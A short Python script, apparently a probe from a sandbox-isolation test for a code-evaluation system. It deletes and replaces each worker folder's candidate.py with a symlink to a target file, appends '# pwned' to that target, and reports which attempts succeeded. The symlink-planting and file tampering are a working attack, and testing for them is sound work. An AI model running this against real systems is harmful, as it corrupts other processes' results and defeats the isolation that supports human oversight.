# Plants a symlink named candidate.py, pointing at a file of a copy of the project, wherever the
# next worker's candidate.py might be written: every worker folder it can find and its own places.
import glob
import json
import os

TARGET = "@TARGET@"
seen = {"planted": [], "refused": {}, "target_written": False}
places = glob.glob("/tmp/kevo-*/worker-*") + glob.glob("/dev/shm/kevo-*/worker-*") + ["/kevo", "/tmp", "/dev/shm"]
for folder in places:
    path = os.path.join(folder, "candidate.py")
    try:
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(TARGET, path)
        seen["planted"].append(folder)
    except OSError as e:
        seen["refused"][folder] = e.strerror
try:
    with open(TARGET, "a") as f:
        f.write("# pwned\n")
    seen["target_written"] = True
except OSError as e:
    seen["target_error"] = e.strerror
raise RuntimeError("REPORT " + json.dumps(seen))
